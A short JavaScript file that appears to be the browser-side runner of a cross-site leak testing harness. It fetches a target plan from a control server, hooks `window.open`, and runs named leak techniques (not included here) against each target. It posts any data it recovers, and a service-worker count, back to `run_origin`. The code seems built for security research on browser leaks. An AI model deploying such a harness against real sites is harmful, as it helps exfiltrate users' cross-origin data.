// Runs `WAYS` against all targets of the attacker `run.as`, some at a time, and says when all have been tried.

async function attack(as) {
  const targets = await (await fetch(`${run_origin}/plan?as=${as}`)).json();
  const windows = [], open = window.open;
  window.open = (...given) => { const made = open.apply(window, given); windows.push(made); return made; };
  window.leak = (place, data) => tell({ place, data });
  let id = 0;
  for (const name of new Set(targets.flatMap(target => target.ways))) {
    for (const target of targets.filter(target => target.ways.includes(name))) {
      const url = type => target.url.replace("WAY", name) + (target.url.includes("?") ? "&" : "?") + `as=${type}`;
      url.id = `${as}${id++}`;
      const place = `${as}/${target.kind}/${name}`;
      const run = { read: data => { if (data) tell({ place, data: String(data).slice(0, 2000) }); } };
      try { Promise.resolve(WAYS[name](url, run)).catch(() => {}); } catch { /* this browser has no such way */ }
    }
    await wait(20);
  }
  await wait(2500);
  for (const made of windows) try { made.close(); } catch { /* another origin's */ }
  try {
    const workers = await navigator.serviceWorker.getRegistrations();
    tell({ place: `${as}/workers`, data: String(workers.length) });
  } catch { /* only secure origins have any */ }
  await fetch(`${run_origin}/done?as=${as}`, { method: "POST", mode: "no-cors" });
}

function tell(found) {
  fetch(`${run_origin}/read`, { method: "POST", mode: "no-cors", body: JSON.stringify(found) });
}
